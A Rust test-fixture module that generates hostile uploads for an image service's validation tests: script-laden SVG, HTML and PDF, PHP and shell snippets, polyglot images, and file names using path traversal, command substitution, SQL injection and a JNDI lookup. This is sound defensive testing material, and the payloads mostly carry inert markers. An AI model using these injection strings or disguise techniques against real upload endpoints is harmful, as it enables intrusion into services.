//! Hostile files and file names. They are combined from tables, so that each new payload is tested in every disguise.

use crate::media::encode_image;
use image::ImageFormat;

/// The marker in every payload. Nothing stored or served may contain it.
pub const MARKER: &[u8] = b"hostile-payload";

/// A hostile file with its description.
pub struct HostileFile {
    pub description: String,
    pub bytes: Vec<u8>,
}

/// Whether the bytes contain the marker.
pub fn contains_marker(bytes: &[u8]) -> bool {
    bytes.windows(MARKER.len()).any(|window| window == MARKER)
}

/// Content that a browser, a shell or an office program would run.
const PAYLOADS: &[(&str, &str)] = &[
    (
        "svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert('hostile-payload')</script></svg>",
    ),
    ("svg with a handler", "<svg onload=\"alert('hostile-payload')\">"),
    (
        "svg behind a prologue",
        "<?xml version='1.0'?><!DOCTYPE svg><svg><script>/*hostile-payload*/</script></svg>",
    ),
    ("html", "<!doctype html><script>alert('hostile-payload')</script>"),
    ("html without a doctype", "<body onload=alert('hostile-payload')>"),
    (
        "html that begins late",
        "                                                                        <script>/*hostile-payload*/</script>",
    ),
    (
        "xhtml",
        "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>/*hostile-payload*/</script></html>",
    ),
    (
        "xml with a style sheet",
        "<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><a>hostile-payload</a>",
    ),
    (
        "xml with entities",
        "<!DOCTYPE a [<!ENTITY b 'hostile-payload'>]><a>&b;</a>",
    ),
    ("script", "alert('hostile-payload')"),
    ("style sheet", "@import 'https://example.com/hostile-payload';"),
    (
        "mhtml",
        "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\nhostile-payload",
    ),
    (
        "pdf with a script",
        "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('hostile-payload'))>>>>",
    ),
    ("postscript", "%!PS-Adobe-3.0 EPSF-3.0\nhostile-payload"),
    ("flash", "CWS\x0bhostile-payload"),
    ("php", "<?php system('hostile-payload'); ?>"),
    ("asp", "<% Response.Write(\"hostile-payload\") %>"),
    ("shell", "#!/bin/sh\necho hostile-payload"),
    ("batch", "@echo off\r\nrem hostile-payload"),
    ("powershell", "Start-Process hostile-payload"),
    (
        "hta",
        "<HTA:APPLICATION><script language=vbscript>'hostile-payload</script>",
    ),
    ("shortcut", "[InternetShortcut]\nURL=file://hostile-payload"),
    ("apache", "AddType application/x-httpd-php .jpg\n#hostile-payload"),
    ("rich text", "{\\rtf1\\ansi{\\object hostile-payload}}"),
    ("sheet formula", "=cmd|'/c hostile-payload'!A1"),
    ("playlist", "#EXTM3U\nfile:///etc/passwd?hostile-payload"),
    (
        "vector of ImageMagick",
        "push graphic-context\nfill 'url(https://example.com/\"|hostile-payload\")'",
    ),
    ("json", "{\"a\":\"hostile-payload\"}"),
];

/// Prefixes that disguise the content as another format.
const DISGUISES: &[(&str, &[u8])] = &[
    ("as it is", b""),
    ("behind a byte order mark", b"\xef\xbb\xbf"),
    ("behind an empty line", b"\r\n\t "),
    ("behind a zero", b"\0"),
    ("behind GIF's signature", b"GIF89a=1;/*\x01\0\x01\0\x80\0\0*/"),
    (
        "behind JPEG's start",
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0",
    ),
    (
        "behind PNG's signature",
        b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90\x77\x53\xde",
    ),
    ("behind WebP's signature", b"RIFF\x40\0\0\0WEBPVP8L"),
    ("behind a video's brand", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom"),
    ("behind WebM's signature", b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm"),
];

/// Files of other formats, by their first bytes.
const OTHER_FORMATS: &[(&str, &[u8])] = &[
    ("zip", b"PK\x03\x04\x14\0\0\0"),
    ("empty zip", b"PK\x05\x06\0\0\0\0"),
    ("rar", b"Rar!\x1a\x07\x01\0"),
    ("7z", b"7z\xbc\xaf\x27\x1c"),
    ("gzip", b"\x1f\x8b\x08\0"),
    ("xz", b"\xfd7zXZ\0"),
    ("zstd", b"\x28\xb5\x2f\xfd"),
    ("windows program", b"MZ\x90\0\x03\0\0\0"),
    ("linux program", b"\x7fELF\x02\x01\x01\0"),
    ("mac program", b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
    ("java class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
    ("android program", b"dex\n035\0"),
    ("wasm", b"\0asm\x01\0\0\0"),
    ("old office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ("bmp", b"BM\x36\0\0\0\0\0\0\0\x36\0\0\0"),
    ("tiff, little end first", b"II*\0\x08\0\0\0"),
    ("tiff, big end first", b"MM\0*\0\0\0\x08"),
    ("icon", b"\0\0\x01\0\x01\0\x10\x10"),
    ("cursor", b"\0\0\x02\0\x01\0\x10\x10"),
    ("photoshop", b"8BPS\0\x01"),
    ("jpeg 2000", b"\0\0\0\x0cjP  \r\n\x87\n"),
    ("jpeg xl", b"\xff\x0a\xfa\x7f"),
    ("avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1"),
    ("heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
    ("exr", b"\x76\x2f\x31\x01"),
    ("farbfeld", b"farbfeld"),
    ("qoi", b"qoif\0\0\0\x01"),
    ("dds", b"DDS |\0\0\0"),
    ("netpbm", b"P6 1 1 255\n"),
    ("radiance", b"#?RADIANCE\n"),
    ("matroska", b"\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska"),
    ("avi", b"RIFF\x40\0\0\0AVI LIST"),
    ("wave", b"RIFF\x40\0\0\0WAVEfmt "),
    ("ogg", b"OggS\0\x02"),
    ("mp3", b"ID3\x04\0\0"),
    ("flac", b"fLaC\0\0\0\x22"),
    ("flash video", b"FLV\x01\x05"),
    ("font", b"wOF2\0\x01\0\0"),
    ("sqlite", b"SQLite format 3\0"),
    ("certificate", b"-----BEGIN PRIVATE KEY-----\n"),
    ("crx", b"Cr24\x03\0\0\0"),
    ("help", b"ITSF\x03\0\0\0"),
    ("shell link", b"L\0\0\0\x01\x14\x02\0"),
    ("audio of apple", b"\0\0\0\x18ftypM4A \0\0\0\0M4A isom"),
    ("one byte", b"\xff"),
    ("half a signature", b"\x89PNG"),
];

pub const FORMATS: [ImageFormat; 4] = [ImageFormat::Jpeg, ImageFormat::Png, ImageFormat::Gif, ImageFormat::WebP];

/// Files that must be refused completely.
pub fn invalid_files() -> Vec<HostileFile> {
    let mut sent = vec![HostileFile {
        description: "nothing at all".to_owned(),
        bytes: Vec::new(),
    }];
    for (what, text) in PAYLOADS {
        for (disguise, head) in DISGUISES {
            sent.push(HostileFile {
                description: format!("{what} {disguise}"),
                bytes: [*head, text.as_bytes()].concat(),
            });
        }
    }
    for (what, head) in OTHER_FORMATS {
        sent.push(HostileFile {
            description: (*what).to_owned(),
            bytes: [*head, &[0; 80], MARKER].concat(),
        });
    }
    for format in FORMATS {
        let whole = encode_image(64, 48, format);
        for tenths in [1, 3, 5, 7, 9] {
            sent.push(HostileFile {
                description: format!("{format:?} cut off at {tenths} tenths"),
                bytes: whole[..whole.len() * tenths / 10].to_vec(),
            });
        }
        sent.push(HostileFile {
            description: format!("html before a {format:?}"),
            bytes: [&b"<script>/*hostile-payload*/</script>"[..], &whole].concat(),
        });
    }
    sent
}

/// Valid images that contain something else as well. Only the image may be stored.
pub fn polyglots() -> Vec<HostileFile> {
    let mut sent = Vec::new();
    for format in FORMATS {
        let whole = encode_image(64, 48, format);
        for (what, text) in PAYLOADS {
            sent.push(HostileFile {
                description: format!("{what} behind a {format:?}"),
                bytes: [&whole[..], text.as_bytes()].concat(),
            });
        }
        sent.push(HostileFile {
            description: format!("an archive behind a {format:?}"),
            bytes: [&whole[..], b"PK\x03\x04", MARKER, b"PK\x05\x06"].concat(),
        });
    }
    let jpeg = encode_image(64, 48, ImageFormat::Jpeg);
    for (what, text) in PAYLOADS {
        let length = u16::try_from(text.len() + 2).expect("short").to_be_bytes();
        sent.push(HostileFile {
            description: format!("{what} in a JPEG's comment"),
            bytes: [&jpeg[..2], &[0xff, 0xfe], &length, text.as_bytes(), &jpeg[2..]].concat(),
        });
    }
    sent
}

/// File names with path traversal, misleading extensions, or characters that break parsers.
pub const FILE_NAMES: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/cron.d/x.jpg",
    "//server/share/x.jpg",
    "C:\\boot.ini",
    "....//....//x.jpg",
    "%2e%2e%2f%2e%2e%2fx.jpg",
    "..%c0%afx.jpg",
    "..;/x.jpg",
    "photo.jpg/../../x.html",
    "photo.jpg.html",
    "photo.html.jpg",
    "photo.php\0.jpg",
    "photo.jpg\0.php",
    "photo.jpg;.asp",
    "photo.jpg::$DATA",
    "photo.pHp5",
    "photo.svg",
    ".htaccess",
    "web.config",
    "index.html",
    "CON",
    "NUL.jpg",
    "aux.",
    " .jpg",
    ".",
    "..",
    "...",
    "-rf",
    "--help.jpg",
    "$(touch x).jpg",
    "`touch x`.jpg",
    "x.jpg | touch y",
    "'; DROP TABLE service_media; --.jpg",
    "<img src=x onerror=alert(1)>.jpg",
    "\u{202e}gpj.exe",
    "photo\u{202e}gnp.html",
    "\u{2066}photo\u{2069}.jpg",
    "ph\u{200b}oto.jpg",
    "\u{feff}photo.jpg",
    "photo\u{2028}.jpg",
    "фото \u{0301}.jpg",
    "照片.jpg",
    "😀.jpg",
    "a\u{7}\u{1b}[31mred.jpg",
    "{{7*7}}.jpg",
    "${jndi:ldap://example.com/x}.jpg",
    "=cmd|'/c calc'!A1.jpg",
    "x.jpg; filename=y.html",
    "",
];

/// Declared content types. The service ignores them.
pub const DECLARED_TYPES: &[&str] = &[
    "image/jpeg",
    "image/svg+xml",
    "text/html",
    "application/javascript",
    "application/x-php",
    "video/mp4",
    "multipart/mixed",
    "image/jpeg; charset=text/html",
    "nonsense",
];
